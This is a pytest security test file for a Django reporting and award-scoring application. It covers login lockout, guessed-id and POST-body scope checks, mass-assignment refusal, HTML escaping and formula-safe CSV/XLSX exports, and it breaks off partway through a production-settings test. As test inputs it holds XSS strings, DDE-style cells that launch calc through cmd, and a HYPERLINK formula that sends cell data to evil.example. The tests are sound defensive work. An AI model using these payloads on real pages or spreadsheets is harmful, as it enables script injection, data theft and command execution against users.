"""Security promises of issue #7 that no other test holds (docs/security.md maps every promise to
its tests): login throttling, object scope for guessed ids and ids inside POST bodies, no mass
assignment through the report form, untrusted text escaped on pages and exported as text."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import os
import zipfile

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from clusters.models import EmulationYear, Unit
from scoring import engine
from scoring.models import (
    Council,
    CouncilMember,
    CouncilResult,
    Dossier,
    DossierDocument,
    EvidenceFile,
    ManualPoints,
    MemberTarget,
    Objection,
    Report,
    ReportComment,
    ReportValue,
)
from scoring.ranking.services.recompute import year_recompute
from scoring.reporting.services.objections import objection_file
from scoring.reporting.services.reports import report_get_or_create, report_return
from tests.dossiers.factories import walk_objects
from tests.helpers import scheme_of
from tests.scoring.factories import SMALL_SCHEME, install_scheme, put_figures
from tests.test_permissions_walk import app_url_names

pytestmark = pytest.mark.django_db

LOGIN = "/dang-nhap/"
LOCKED_VI = "Đăng nhập tạm thời bị khóa"
LOCKED_EN = "Login temporarily locked"


# --- login throttling ---------------------------------------------------------------------------


def login(client, username, password, ip="10.0.0.1", path=LOGIN, **extra):
    return client.post(path, {"username": username, "password": password}, REMOTE_ADDR=ip, **extra)


def logged_in(client) -> bool:
    return "_auth_user_id" in client.session


def test_five_failures_for_one_account_from_one_address_lock_that_pair(client, world, settings):
    assert settings.AXES_FAILURE_LIMIT == 5
    for _attempt in range(4):
        response = login(client, "reporter_a1", "wrong", ip="10.0.1.1")
        assert response.status_code == 200 and response.context["form"].errors
    response = login(client, "reporter_a1", "wrong", ip="10.0.1.1")
    assert response.status_code == 429
    # Locked: the right password from that address is refused too — and says why.
    response = login(client, "reporter_a1", "pw-reporter_a1", ip="10.0.1.1")
    assert response.status_code == 429 and not logged_in(client)
    page = response.content.decode()
    assert LOCKED_VI in page and "5 lần" in page and "15 phút" in page
    assert 'name="username"' in page and 'value="reporter_a1"' in page
    assert 'name="password"' in page and "csrfmiddlewaretoken" in page
    # Other accounts from the same address are not affected (issue #14: an office shares one).
    assert login(client, "reporter_a2", "pw-reporter_a2", ip="10.0.1.1").status_code == 302
    assert logged_in(client)


def test_the_lockout_is_lifted_after_the_cool_off(client, world, settings):
    from axes.models import AccessAttempt

    for _ in range(5):
        login(client, "reporter_a1", "wrong")
    assert login(client, "reporter_a1", "pw-reporter_a1").status_code == 429
    cool_off = settings.AXES_COOLOFF_TIME
    assert cool_off == dt.timedelta(minutes=15)
    AccessAttempt.objects.update(
        attempt_time=AccessAttempt.objects.get().attempt_time - cool_off - dt.timedelta(seconds=1)
    )
    assert login(client, "reporter_a1", "pw-reporter_a1").status_code == 302


def test_the_lockout_message_is_in_english_when_english_is_chosen(client, world, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    for _ in range(5):
        response = login(client, "reporter_a1", "wrong")
    assert response.status_code == 429
    page = response.content.decode()
    assert LOCKED_EN in page and "15 minutes" in page and LOCKED_VI not in page


def test_logging_in_to_ones_own_account_does_not_clear_failures_against_another(client, world):
    """Why AXES_RESET_ON_SUCCESS is off: with it, a success from an address forgets every failure
    from that address, so a user could guess another account's password without end by logging
    in to their own account between guesses."""
    for _round in range(2):
        for _ in range(2):
            login(client, "secretariat", "guess", ip="10.0.3.1")
        assert login(client, "reporter_a2", "pw-reporter_a2", ip="10.0.3.1").status_code == 302
        client.logout()
    login(client, "secretariat", "guess", ip="10.0.3.1")
    # Five failures against the account from the address in all: locked there.
    response = login(client, "secretariat", "pw-secretariat", ip="10.0.3.1")
    assert response.status_code == 429 and not logged_in(client)


def test_the_admin_login_is_throttled_too(client, world, django_user_model):
    django_user_model.objects.create_superuser("root", password="pw-root")
    for _ in range(5):
        response = login(client, "root", "wrong", path="/admin/login/?next=/admin/")
    assert response.status_code == 429
    response = login(client, "root", "pw-root", path="/admin/login/?next=/admin/")
    assert response.status_code == 429 and not logged_in(client)


def test_a_forged_forwarded_for_header_does_not_escape_the_address_lock(client, world, settings):
    """Without a trusted proxy X-Forwarded-For is ignored; behind one (TRUSTED_PROXY_COUNT=1)
    only the address the proxy itself appended counts, not what the client wrote before it."""
    for attempt in range(5):
        login(
            client, "reporter_a1", "wrong", ip="10.0.4.1", HTTP_X_FORWARDED_FOR=f"1.2.3.{attempt}"
        )
    assert login(client, "reporter_a1", "pw-reporter_a1", ip="10.0.4.1").status_code == 429

    settings.TRUSTED_PROXY_COUNT = 1
    proxy = "127.0.0.1"
    for attempt in range(5):
        login(
            client,
            "reporter_a1",
            "wrong",
            ip=proxy,
            HTTP_X_FORWARDED_FOR=f"9.9.9.{attempt}, 10.0.5.1",
        )
    forged = login(
        client, "reporter_a1", "pw-reporter_a1", ip=proxy, HTTP_X_FORWARDED_FOR="8.8.8.8, 10.0.5.1"
    )
    assert forged.status_code == 429
    # Another client behind the same proxy is not locked out by the first one's failures.
    other = login(
        client, "reporter_a1", "pw-reporter_a1", ip=proxy, HTTP_X_FORWARDED_FOR="10.0.5.2"
    )
    assert other.status_code == 302


# --- object scope: guessed ids, ids inside POST bodies ------------------------------------------


def attach(report, name: str, content: bytes = b"%PDF-1.4 test") -> EvidenceFile:
    """An evidence file as the upload would store it (reports imported from figures are already
    submitted, where the upload itself is closed)."""
    stored = default_storage.save(f"evidence/test/{report.pk}.pdf", ContentFile(content))
    return EvidenceFile.objects.create(
        report=report,
        file=stored,
        original_name=name,
        content_type="application/pdf",
        size=len(content),
    )


@pytest.fixture
def scoped(world):
    """Both clusters with a scheme, figures, a run, a report and an evidence file per member."""
    for year in (world.year, world.other_year):
        install_scheme(year)
    put_figures(world.year, {("a1", "new_coops"): 20, ("a2", "new_coops"): 10})
    put_figures(world.other_year, {("b1", "new_coops"): 15})
    for year in (world.year, world.other_year):
        year_recompute(emulation_year_id=year.pk)
    world.evidence = {}
    for year, unit in [(world.year, world.unit_a1), (world.year, world.unit_a2)] + [
        (world.other_year, world.unit_b1)
    ]:
        report = report_get_or_create(emulation_year=year, unit_id=unit.pk)
        world.evidence[unit.code] = attach(report, f"{unit.code}.pdf", unit.code.encode())
    # Award dossiers: A1's to A's supervising unit (with a document and that body's council and
    # its result), B1's to B's.
    world.dossier, world.council = walk_objects(world)
    world.other_dossier = Dossier.objects.create(
        body=world.other_supervising,
        emulation_year=world.other_year,
        unit=world.unit_b1,
        award_code="co-thi-dua-lmhtxvn",
        award_name="Cờ thi đua",
    )
    world.other_council = Council.objects.create(
        body=world.other_supervising, year=2025, name="Hội đồng B"
    )
    return world


def around(*ids: int, radius: int = 2) -> list[int]:
    """Every id within `radius` of a real one: what someone counting up and down would try."""
    return sorted(
        {
            candidate
            for pk in ids
            for candidate in range(pk - radius, pk + radius + 1)
            if candidate > 0
        }
    )


# What each persona may see: everything else must be a 404 for GET and POST.
def visible(world, persona):
    return {
        "reporter_a2": {
            "clusters": {world.cluster.pk},
            "years": {world.year.pk},
            "pairs": {(world.year.pk, world.unit_a2.pk)},
            "units": {world.unit_a1.pk, world.unit_a2.pk},  # award histories of its year's members
            "dossiers": set(),  # A1's is not its unit's
            "councils": set(),
            "bodies": set(),
        },
        "other_secretariat": {
            "clusters": {world.other_cluster.pk},
            "years": {world.other_year.pk},
            "pairs": {(world.other_year.pk, world.unit_b1.pk)},
            "units": {world.unit_b1.pk},
            "dossiers": {world.other_dossier.pk},
            "councils": set(),
            "bodies": set(),
        },
        "awarding": {
            "clusters": set(),
            "years": set(),
            "pairs": set(),
            "units": set(),
            "dossiers": {world.dossier.pk},
            "councils": {world.council.pk},
            "bodies": {world.supervising.pk},
        },
        "outsider": {
            "clusters": set(),
            "years": set(),
            "pairs": set(),
            "units": set(),
            "dossiers": set(),
            "councils": set(),
            "bodies": set(),
        },
    }[persona]


def object_urls() -> dict[str, tuple[str, list[str]]]:
    """Every named URL of the app with parameters: name -> (route, parameter names). Walked from
    the URL configuration, so that a page added later is walked too."""
    found: dict[str, tuple[str, list[str]]] = {}
    names = app_url_names()

    def walk(patterns, prefix=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern) and p.name in names and p.pattern.converters:
                found[p.name] = (prefix + str(p.pattern), list(p.pattern.converters))

    walk(get_resolver().url_patterns)
    return found


def candidate_args(route: str, params: list[str], world, ids) -> list[tuple[dict, tuple]]:
    """(kwargs, what they point at) for every combination of guessed ids a URL takes. What they
    point at: ("cluster", pk), ("year", pk) or ("year", pk, unit_id)."""
    if route.startswith("cum/"):
        parents = [({"pk": pk}, ("cluster", pk)) for pk in ids["clusters"]]
    elif route.startswith("nam/"):
        parents = [({"pk": pk}, ("year", pk)) for pk in ids["years"]]
    elif route.startswith("don-vi/"):
        parents = [({"unit_id": pk}, ("unit", pk)) for pk in ids["units"]]
        params = [p for p in params if p != "unit_id"]
    elif route.startswith("ho-so/"):
        parents = [({"dossier_id": pk}, ("dossier", pk)) for pk in ids["dossiers"]]
        params = [p for p in params if p != "dossier_id"]
    elif route.startswith("hoi-dong/"):
        parents = [({"council_id": pk}, ("council", pk)) for pk in ids["councils"]]
        params = [p for p in params if p != "council_id"]
    elif route.startswith("co-quan/"):
        parents = [({"body_id": pk}, ("body", pk)) for pk in ids["units"]]
        params = [p for p in params if p != "body_id"]
    elif route.startswith("khen-thuong/quy-tac/"):
        # The rule sets are the system administrator's alone: every code, every id is outside
        # every persona's scope.
        if "code" in params:
            return [({"code": code}, ("admin", 0)) for code in ("nd-152-2025", "nd-98-2023")]
        return [({"upload_id": pk}, ("admin", pk)) for pk in ids["others"]]
    else:
        raise AssertionError(f"{route}: add a rule for what its object is")
    combos = parents
    for param in params:
        if param == "pk":
            continue
        if param == "unit_id":
            values = ids["units"]
        elif param == "code":
            values = ["1.1"]
        elif param == "kind":  # a document's kind (its template's page)
            values = ["minutes"]
        elif param == "fmt":  # a document's file: Word or PDF
            values = ["pdf"]
        elif param.endswith("_id"):
            values = ids["others"]  # an object of the year (evidence, ballot): any id
        else:
            raise AssertionError(f"{route}: add a rule for the parameter {param!r}")
        combos = [
            ({**kwargs, param: value}, (*target, value) if param == "unit_id" else target)
            for kwargs, target in combos
            for value in values
        ]
    return combos


def outside(target: tuple, mine: dict) -> bool:
    kind, pk, *unit = target
    if kind == "admin":
        return True
    if kind == "cluster":
        return pk not in mine["clusters"]
    if kind == "unit":
        return pk not in mine["units"]
    if kind in ("dossier", "council"):
        return pk not in mine[f"{kind}s"]
    if kind == "body":
        return pk not in mine["bodies"]
    if pk not in mine["years"]:
        return True
    return bool(unit) and (pk, unit[0]) not in mine["pairs"]


def test_every_object_bearing_url_is_walked():
    """Every URL of the app takes an object id, but the home page, the overview, the user's
    own notification preferences, the award register and its rule sets' page (the system
    administrator's alone) and the dossiers' queue and its batch package (both read within the
    user's scope)."""
    assert set(object_urls()) == app_url_names() - {
        "home",
        "overview",
        "notification-preferences",
        "award-register",
        "award-rule-sets",
        "dossier-queue",
        "dossier-batch",
    }


@pytest.mark.parametrize("persona", ["reporter_a2", "other_secretariat", "outsider", "awarding"])
def test_guessed_ids_outside_ones_scope_are_404_for_get_and_post(client, scoped, persona):
    """Counting ids up and down around the real ones — clusters, years, units, and objects of a
    year — on every URL that takes them: whatever lies outside one's scope is a 404, for GET
    and for POST, and a POST changes nothing."""
    w = scoped
    client.force_login(getattr(w, persona))
    mine = visible(w, persona)
    ids = {
        "clusters": around(w.cluster.pk, w.other_cluster.pk),
        "years": around(w.year.pk, w.other_year.pk),
        "units": around(
            w.unit_a1.pk, w.unit_a2.pk, w.unit_b1.pk, w.supervising.pk, w.other_supervising.pk,
            radius=1,
        ),
        "others": around(*(e.pk for e in w.evidence.values()), radius=1),
        "dossiers": around(w.dossier.pk, w.other_dossier.pk),
        "councils": around(w.council.pk, w.other_council.pk),
    }  # fmt: skip
    addresses = []
    for name, (route, params) in object_urls().items():
        for kwargs, target in candidate_args(route, params, w, ids):
            if outside(target, mine):
                addresses.append(reverse(name, kwargs=kwargs))
    before = snapshot()
    answers = {}
    for address in addresses:
        answers[(address, "GET")] = client.get(address).status_code
        answers[(address, "POST")] = client.post(address, HOSTILE_POST).status_code
    assert {key: code for key, code in answers.items() if code != 404} == {}
    assert len(answers) > 300
    assert snapshot() == before


# A POST that would change something, were it let through.
HOSTILE_POST = {
    "action": "save",
    "version": 1,
    "e_new_coops": "99",
    "status": "published",
    "reason": "đoán mã",
    "text": "đoán mã",
}


def snapshot() -> dict:
    """The rows a POST could change."""
    return {
        "reports": sorted(Report.objects.values_list("pk", "status", "version")),
        "values": sorted(ReportValue.objects.values_list("pk", "value", "verified_value")),
        "years": sorted(EmulationYear.objects.values_list("pk", "status", "input_version")),
        "objections": Objection.objects.count(),
        "manual": ManualPoints.objects.count(),
        "targets": MemberTarget.objects.count(),
        "evidence": EvidenceFile.objects.count(),
        "dossiers": sorted(Dossier.objects.values_list("pk", "state", "return_reason")),
        "documents": DossierDocument.objects.count(),
        "council results": sorted(CouncilResult.objects.values_list("pk", "yes", "present")),
        "council members": sorted(CouncilMember.objects.values_list("pk", "name")),
        "councils": Council.objects.count(),
    }


@pytest.mark.parametrize("persona", ["reporter_a2", "other_secretariat", "outsider", "reporter_a1"])
def test_evidence_ids_guessed_in_sequence_give_only_ones_own_files(client, scoped, persona):
    """The evidence id is looked up within the report of the URL: someone else's file under
    one's own report's address is a 404, as is anything outside one's scope."""
    w = scoped
    client.force_login(getattr(w, persona))
    own = {
        "reporter_a1": (w.year, w.unit_a1),
        "reporter_a2": (w.year, w.unit_a2),
        "other_secretariat": (w.other_year, w.unit_b1),
        "outsider": None,
    }[persona]
    files = {e.pk: e for e in EvidenceFile.objects.select_related("report")}
    pairs = [(w.year, w.unit_a1), (w.year, w.unit_a2), (w.other_year, w.unit_b1)]
    found = {}
    for year, unit in pairs:
        for evidence_id in around(*files):
            address = reverse("evidence-download", args=[year.pk, unit.pk, evidence_id])
            found[(unit.code, evidence_id, "GET")] = client.get(address).status_code
            found[(unit.code, evidence_id, "POST")] = client.post(address, {}).status_code
    expected = {}
    for code, evidence_id, method in found:
        evidence = files.get(evidence_id)
        mine = own is not None and code == own[1].code
        if not mine:
            expected[(code, evidence_id, method)] = 404
        elif method == "POST":
            expected[(code, evidence_id, method)] = 405  # read-only, within one's own scope
        elif evidence is not None and evidence.report.unit_id == own[1].pk:
            expected[(code, evidence_id, method)] = 200
        else:
            expected[(code, evidence_id, method)] = 404
    assert found == expected


def test_ids_inside_a_post_body_are_looked_up_within_the_url_scope(client, scoped):
    """Objection, manual-points row and comment ids travel in the form: another cluster's or
    another unit's id is refused and changes nothing."""
    w = scoped
    EmulationYear.objects.filter(pk__in=[w.year.pk, w.other_year.pk]).update(
        status=EmulationYear.Status.REPORTING, reporting_deadline=dt.date(2099, 12, 15)
    )
    w.year.refresh_from_db()
    objection = objection_file(
        emulation_year=w.year, unit=w.unit_a1, criterion_code="1.1", text="Chỉ tiêu quá cao"
    )
    manual = ManualPoints.objects.create(
        emulation_year=w.year,
        unit=w.unit_a1,
        criterion_code="1.1",
        points=5,
        reason="Khen thưởng đột xuất",
    )
    # Another cluster's secretariat, through its own year's pages.
    client.force_login(w.other_secretariat)
    mine = w.other_year.pk
    response = client.post(
        reverse("year-objections", args=[mine]),
        {"action": "answer", "objection": objection.pk, "decision": "accept", "answer": "Đồng ý"},
    )
    assert response.status_code == 404
    response = client.post(
        reverse("year-manual", args=[mine]),
        {"action": "delete", "row": manual.pk, "reason": "xóa"},
    )
    assert response.status_code == 404
    client.post(
        reverse("year-manual", args=[mine]),
        {"unit": w.unit_a1.pk, "criterion": "1.1", "points": "50", "reason": "chen ngang"},
    )
    objection.refresh_from_db()
    assert objection.status == Objection.Status.OPEN and not objection.answer
    assert ManualPoints.objects.filter(pk=manual.pk, points=5).exists()
    assert not ManualPoints.objects.filter(points=50).exists()

    # A reporter filing an objection in the name of the other member of its cluster.
    client.force_login(w.reporter_a1)
    client.post(
        reverse("year-objections", args=[w.year.pk]),
        {"action": "file", "unit": w.unit_a2.pk, "criterion": "1.1", "text": "Giả danh A2"},
    )
    assert not Objection.objects.filter(unit=w.unit_a2).exists()

    # A reporter answering a comment made on another member's report: only its own is answered.
    comments = {}
    for unit in (w.unit_a1, w.unit_a2):
        report = Report.objects.get(emulation_year=w.year, unit=unit)  # submitted by the import
        report_return(
            report=report, expected_version=report.version, comments={"new_coops": "Kiểm tra lại"}
        )
        comments[unit.code] = ReportComment.objects.get(report=report)
    report_a1 = Report.objects.get(emulation_year=w.year, unit=w.unit_a1)
    response = client.post(
        reverse("report-detail", args=[w.year.pk, w.unit_a1.pk]),
        {
            "action": "save",
            "version": report_a1.version,
            "note": "",
            "e_new_coops": "20",
            f"answer_{comments['a1'].pk}": "Đã kiểm tra",
            f"answer_{comments['a2'].pk}": "Trả lời hộ A2",
        },
    )
    assert response.status_code == 302
    for comment in comments.values():
        comment.refresh_from_db()
    assert comments["a1"].answer == "Đã kiểm tra"
    assert comments["a2"].answer == ""


# --- no mass assignment -------------------------------------------------------------------------


@pytest.fixture
def reporting(world):
    install_scheme(world.year)
    EmulationYear.objects.filter(pk=world.year.pk).update(
        status=EmulationYear.Status.REPORTING, reporting_deadline=dt.date(2099, 12, 15)
    )
    world.year.refresh_from_db()
    return world


EXTRA_FIELDS = {
    # The report's own columns.
    "status": "verified",
    "verified_at": "2025-01-01T00:00",
    "verified_by": "1",
    "submitted_by": "1",
    "unit": "0",
    "unit_id": "0",
    "emulation_year": "0",
    "emulation_year_id": "0",
    # Verified figures, in every spelling a guess might try.
    "verified_value": "999",
    "verified_new_coops": "999",
    "e_new_coops_verified": "999",
    "v_new_coops": "999",
    "values-0-verified_value": "999",
    # Targets and points.
    "target": "1",
    "target_1.1": "1",
    "t_1.1": "1",
    "points": "100",
    "points_1.1": "100",
    "total": "100",
    "rank": "1",
    "manual_1.1": "100",
    "proposed": "100",
    # A data element the scheme does not have.
    "e_secret_bonus": "100",
}


@pytest.mark.parametrize("action", ["save", "submit_confirmed"])
def test_a_reporter_cannot_set_status_targets_points_or_verified_values_by_adding_fields(
    client, reporting, action
):
    w = reporting
    client.force_login(w.reporter_a1)
    data = {"action": action, "version": 1, "note": "", "e_new_coops": "10"}
    data.update(EXTRA_FIELDS)
    response = client.post(reverse("report-detail", args=[w.year.pk, w.unit_a1.pk]), data)
    assert response.status_code == 302
    report = Report.objects.get()
    assert (report.emulation_year_id, report.unit_id) == (w.year.pk, w.unit_a1.pk)
    assert report.status == ("submitted" if action == "submit_confirmed" else "draft")
    assert report.verified_at is None and report.verified_by_id is None
    assert report.submitted_by_id == (w.reporter_a1.pk if action == "submit_confirmed" else None)
    assert list(ReportValue.objects.values_list("element_code", "value", "verified_value")) == [
        ("new_coops", 10, None)
    ]
    assert not MemberTarget.objects.exists()
    assert not ManualPoints.objects.exists()
    year = EmulationYear.objects.get(pk=w.year.pk)
    assert year.status == EmulationYear.Status.REPORTING
    criterion = scheme_of(year).criteria.get(code="1.1")
    assert (criterion.target, criterion.points) == (20, 60)


def test_a_reporter_cannot_file_an_objection_already_answered_or_accepted(client, reporting):
    w = reporting
    client.force_login(w.reporter_a1)
    client.post(
        reverse("year-objections", args=[w.year.pk]),
        {
            "action": "file",
            "unit": w.unit_a1.pk,
            "criterion": "1.1",
            "text": "Đề nghị xem lại",
            "status": "accepted",
            "answer": "Đồng ý",
            "answered_by": w.secretariat.pk,
        },
    )
    objection = Objection.objects.get()
    assert objection.status == Objection.Status.OPEN and not objection.answer
    assert objection.answered_by_id is None


# --- untrusted text: escaped on pages, text in spreadsheets -------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'


def hostile_text(source: str) -> str:
    """A script tag and a spreadsheet formula, marked with where the text was typed."""
    return f'<script>alert("{source}")</script> {FORMULA}'


def escaped(source: str) -> str:
    return f"&lt;script&gt;alert(&quot;{source}&quot;)&lt;/script&gt;"


# A file name keeps no folder part ("/"): the hostile one has none.
FILE_NAME = '<img src=x onerror=alert("file")>=HYPERLINK("x","y").pdf'
ESCAPED_FILE_NAME = (
    "&lt;img src=x onerror=alert(&quot;file&quot;)&gt;=HYPERLINK(&quot;x&quot;,&quot;y&quot;).pdf"
)


@pytest.fixture
def hostile(world):
    """A unit name, the secretariat's comments, a report note, an objection and an evidence file
    name with a script tag and a spreadsheet formula in them."""
    Unit.objects.filter(pk=world.unit_a1.pk).update(name=hostile_text("unit"), short_name="")
    install_scheme(world.year)
    EmulationYear.objects.filter(pk=world.year.pk).update(
        status=EmulationYear.Status.REPORTING, reporting_deadline=dt.date(2099, 12, 15)
    )
    world.year.refresh_from_db()
    put_figures(world.year, {("a1", "new_coops"): 20, ("a2", "new_coops"): 10})
    year_recompute(emulation_year_id=world.year.pk)
    report = Report.objects.get(emulation_year=world.year, unit=world.unit_a1)  # submitted
    attach(report, FILE_NAME)
    Report.objects.filter(pk=report.pk).update(note=hostile_text("note"))
    report_return(
        report=report,
        expected_version=Report.objects.get(pk=report.pk).version,
        comments={"new_coops": hostile_text("comment"), "": hostile_text("comment")},
    )
    objection_file(
        emulation_year=world.year,
        unit=world.unit_a1,
        criterion_code="1.1",
        text=hostile_text("objection"),
    )
    return world


def test_hostile_text_is_escaped_on_every_page_that_shows_it(client, hostile):
    w = hostile
    pages = {
        "home": reverse("home"),
        "cluster": reverse("cluster-detail", args=[w.cluster.pk]),
        "year": reverse("year-detail", args=[w.year.pk]),
        "sheet": reverse("year-unit-sheet", args=[w.year.pk, w.unit_a1.pk]),
        "report": reverse("report-detail", args=[w.year.pk, w.unit_a1.pk]),
        "history": reverse("report-history", args=[w.year.pk, w.unit_a1.pk]),
        "objections": reverse("year-objections", args=[w.year.pk]),
        "pledge": reverse("year-pledge", args=[w.year.pk]),
        "targets": reverse("year-targets", args=[w.year.pk]),
        "manual": reverse("year-manual", args=[w.year.pk]),
        "compare": reverse("cluster-compare", args=[w.cluster.pk]),
        "overview": reverse("overview") + "?nam=2025",
        "pack": reverse("conference-pack", args=[w.year.pk]),
    }
    shown: dict[str, set[str]] = {}
    for persona in ("secretariat", "reporter_a1", "leadership"):
        client.force_login(getattr(w, persona))
        for name, address in pages.items():
            response = client.get(address)
            assert response.status_code in (200, 404), (persona, name)
            page = response.content.decode()
            assert "<script>alert(" not in page, (persona, name)
            assert "<img src=x" not in page, (persona, name)
            for source in ("unit", "note", "comment", "objection"):
                if escaped(source) in page:
                    shown.setdefault(source, set()).add(name)
            if ESCAPED_FILE_NAME in page:
                shown.setdefault("file", set()).add(name)
    # Shown escaped, not merely dropped.
    assert {"year", "sheet", "report", "history", "objections", "pledge", "pack"} <= shown["unit"]
    assert {"report"} <= shown["note"] and {"report"} <= shown["comment"]
    assert {"objections"} <= shown["objection"] and {"report"} <= shown["file"]


def test_the_evidence_download_keeps_the_hostile_name_out_of_the_headers(client, hostile):
    w = hostile
    evidence = EvidenceFile.objects.get()
    assert evidence.original_name == FILE_NAME
    client.force_login(w.secretariat)
    response = client.get(reverse("evidence-download", args=[w.year.pk, w.unit_a1.pk, evidence.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Type"] == "application/pdf"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "\n" not in response["Content-Disposition"]


@pytest.fixture
def hostile_codes(world):
    """Exports carry unit codes and names, band names, criterion codes and names and explanation
    lines: a unit code and name, a band name and a criterion name that a spreadsheet would run as
    formulas (codes come from imports, where nothing guarantees a slug)."""
    Unit.objects.filter(pk=world.unit_a1.pk).update(code=FORMULA[:40], name=FORMULA)
    first, *others = SMALL_SCHEME.criteria
    scheme = engine.Scheme(
        name=FORMULA,
        scale=SMALL_SCHEME.scale,
        data_elements=SMALL_SCHEME.data_elements,
        criteria=(dataclasses.replace(first, name=CRITERION_FORMULA), *others),
        classification=(
            engine.Band(band="@SUM(1+1)*cmd|' /C calc'!A0", min_total=50),
            engine.Band(band="-2+3+cmd|' /C calc'!A0", min_total=0),
        ),
    )
    install_scheme(world.year, scheme)
    put_figures(world.year, {(FORMULA[:40], "new_coops"): 20, ("a2", "new_coops"): 5})
    year_recompute(emulation_year_id=world.year.pk)
    return world


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CRITERION_FORMULA = "@SUM(2+2)"
BANDS = {"'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"}


def test_the_csv_export_writes_hostile_cells_as_text(client, hostile_codes):
    w = hostile_codes
    client.force_login(w.secretariat)
    url = reverse("ranking-csv", args=[w.year.pk])
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    units = [row[1] for row in rows[1:]]
    assert "'" + FORMULA[:40] in units
    assert "'" + FORMULA in [row[rows[0].index("Tên đơn vị")] for row in rows[1:]]
    assert {row[3] for row in rows[1:]} == BANDS
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    # The dialect for a person: names, criteria named in the headings.
    response = client.get(url + "?dialect=excel-vn")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in [row[1] for row in rows[1:]]
    assert {row[7] for row in rows[1:]} == BANDS
    assert "1.1 " + CRITERION_FORMULA in rows[0]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []


def test_the_xlsx_export_has_no_formula_cells(client, hostile_codes):
    w = hostile_codes
    client.force_login(w.secretariat)
    response = client.get(reverse("ranking-xlsx", args=[w.year.pk]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    values = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert all(cell.data_type == "s" for cell in values)
    texts = {cell.value for cell in values}
    assert FORMULA in texts and "@SUM(1+1)*cmd|' /C calc'!A0" in texts
    assert CRITERION_FORMULA in texts


# --- authentication, CSRF, uploads outside the static folders ------------------------------------


def test_only_the_login_page_static_files_and_the_health_check_are_open_without_login(client):
    assert client.get(LOGIN).status_code == 200
    assert client.get("/static/css/app.css").status_code == 200
    assert client.get("/healthz/").status_code == 200
    # Every page of the app: tests/test_permissions_walk.py (anonymous column); the admin too.
    response = client.get("/admin/")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_posts_without_a_csrf_token_are_refused(reporting):
    from django.test import Client

    w = reporting
    strict = Client(enforce_csrf_checks=True)
    response = strict.post(LOGIN, {"username": "reporter_a1", "password": "pw-reporter_a1"})
    assert response.status_code == 403 and "_auth_user_id" not in strict.session
    strict.force_login(w.reporter_a1)
    response = strict.post(
        reverse("report-detail", args=[w.year.pk, w.unit_a1.pk]),
        {"action": "save", "version": 1, "note": "", "e_new_coops": "10"},
    )
    assert response.status_code == 403
    assert not Report.objects.exists()


def test_uploads_are_stored_outside_the_static_folders_and_never_served_by_their_path(
    client, scoped
):
    """Evidence and scans are only ever served by the permission-checked view."""
    from pathlib import Path

    from emulation import settings as configured

    media = Path(configured.MEDIA_ROOT).resolve()
    for static in [Path(configured.STATIC_ROOT), *map(Path, configured.STATICFILES_DIRS)]:
        static = static.resolve()
        assert not media.is_relative_to(static) and not static.is_relative_to(media)
    evidence = scoped.evidence["a1"]
    client.force_login(scoped.secretariat)
    for address in [
        f"/media/{evidence.file.name}",
        f"{configured.MEDIA_URL}{evidence.file.name}",
        f"/static/{evidence.file.name}",
        f"/{evidence.file.name}",
    ]:
        assert client.get(address).status_code == 404, address


# --- production settings ------------------------------------------------------------------------

PRODUCTION_PROBE = """
import json, django
django.setup()
from django.conf import settings as s
from django.test import Client

host = s.ALLOWED_HOSTS[0]
client = Client(HTTP_HOST=host)
plain = client.get("/dang-nhap/")
health = client.get("/healthz/")
secure = client.get("/healthz/", secure=True)
print(json.dumps({
    "settings": {
        name: getattr(s, name, None)
        for name in [
            "DEBUG", "SESSION_COOKIE_SECURE", "SESSION_COOKIE_HTTPONLY", "SESSION_COOKIE_SAMESITE",
            "SESSION_COOKIE_AGE", "SESSION_EXPIRE_AT_BROWSER_CLOSE", "CSRF_COOKIE_SECURE",
            "CSRF_COOKIE_HTTPONLY", "LANGUAGE_COOKIE_SECURE", "SECURE_SSL_REDIRECT",
            "SECURE_HSTS_SECONDS", "SECURE_HSTS_INCLUDE_SUBDOMAINS", "SECURE_HSTS_PRELOAD",
            "SECURE_PROXY_SSL_HEADER", "X_FRAME_OPTIONS", "SECURE_CONTENT_TYPE_NOSNIFF",
            "AXES_FAILURE_LIMIT", "AXES_LOCKOUT_PARAMETERS", "AXES_RESET_ON_SUCCESS",
            "TRUSTED_PROXY_COUNT",
        ]
    },
    "first_backend": s.AUTHENTICATION_BACKENDS[0],
    "last_middleware": s.MIDDLEWARE[-1],
    "plain": [plain.status_code, plain.get("Location")],
    "health": health.status_code,
    "headers": {k: secure.get(k) for k in [
        "Strict-Transport-Security", "X-Frame-Options", "X-Content-Type-Options",
        "Referrer-Policy", "Cross-Origin-Opener-Policy",
    ]},
}, default=str))
"""


def test_with_debug_off_cookies_are_secure_https_is_enforced_and_headers_are_sent():
    """The production-like variables of .env.example (no services are contacted)."""
    from tests.test_settings import env_example, run

    env = env_example()
    env.pop("DATABASE_URL")
    env.pop("CELERY_BROKER_URL")
